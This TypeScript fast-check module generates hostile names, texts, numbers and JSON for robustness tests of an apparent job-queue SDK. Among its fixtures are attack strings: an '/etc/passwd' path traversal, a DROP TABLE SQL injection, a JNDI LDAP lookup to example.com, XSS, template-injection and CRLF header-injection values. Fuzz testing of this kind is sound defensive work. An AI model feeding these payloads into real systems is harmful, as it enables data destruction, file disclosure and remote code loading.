import fc from "fast-check";

/** Names that mean something to JavaScript, to the SDK, or to a JSON reader. */
export const HOSTILE_NAMES = [
  ..."__proto__ constructor prototype toString valueOf hasOwnProperty toJSON then length".split(" "),
  ..."id owner status version requestHash $ref a.b a/b~c #owner :value 💥".split(" "),
  ...["", " ", "\u0000", "\ufeff"],
];

/** Texts that break quoting, encoding, paths, keys or logs somewhere. */
export const HOSTILE_TEXTS = [
  ...HOSTILE_NAMES,
  "../../etc/passwd",
  "..%2f..%2f",
  "'; DROP TABLE jobs; --",
  "%{jndi:ldap://example.com/a}",
  "<script>alert(1)</script>",
  "{{7*7}}",
  "a\r\nSet-Cookie: a=b",
  "\u0000\u0001\u001f\u007f",
  "\ud800",
  "\udc00\ud800",
  "\ufffe\uffff",
  "\u202e\u2028\u2029",
  "NaN",
  "Infinity",
  "null",
  "undefined",
  "[object Object]",
  "x".repeat(300),
  "é".repeat(2_000),
  "💥".repeat(130),
  "/jobs/../job-types",
  "canary#QUEUED",
  "canary_01K91ABCDEFGHJKMNPQRSTVWXY",
  "arn:aws:iam::123456789012:root",
];

const HOSTILE_NUMBERS = [
  ...[0, -0, -1, 0.1, 1.5, 2_147_483_648, 9_007_199_254_740_992, -9_007_199_254_740_994, 18_446_744_073_709_552_000],
  ...[1e21, 1e308, -1e308, 5e-324, 1e-130, 1e-131],
];

/** Any UTF-16 code unit, halves of surrogate pairs among them, and a few that programs treat in their own way. */
const unit = fc.oneof(
  fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
  fc.constantFrom("💥", "é", "e\u0301", "\u0000", "\u2028", "\ufeff", '"', "\\", "/", "%", "\n"),
);

export const hostileName = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NAMES) },
  { weight: 1, arbitrary: fc.string({ unit, maxLength: 12 }) },
);

export const hostileText = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

const hostileObject = fc
  .array(fc.tuple(hostileName, fc.oneof(hostileText, fc.constantFrom(...HOSTILE_NUMBERS), fc.constant(null))), { maxLength: 4 })
  .map((members) => Object.fromEntries(members));

/** What something on the way to the table and back takes for something else than JSON does. */
export const ODD_VALUES: readonly unknown[] = [
  ...['{"__proto__":{"a":1}}', '{"constructor":{"prototype":{}}}', '{"":1}'].map((json) => JSON.parse(json)),
  ...HOSTILE_NUMBERS,
  "\ud800",
];

/** Any JSON, odd numbers, texts and names among it. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom<unknown>(...ODD_VALUES, null, true, false, [], {}, [[]], [null]),
  hostileObject,
  fc.array(hostileObject, { maxLength: 3 }),
  fc.jsonValue({ stringUnit: unit, maxDepth: 4 }),
  fc.integer({ min: 1, max: 260 }).map((levels) => nested(levels)),
);

/** Arrays within arrays. */
export function nested(levels: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < levels; level += 1) value = level % 3 === 0 ? { a: value } : [value];
  return value;
}
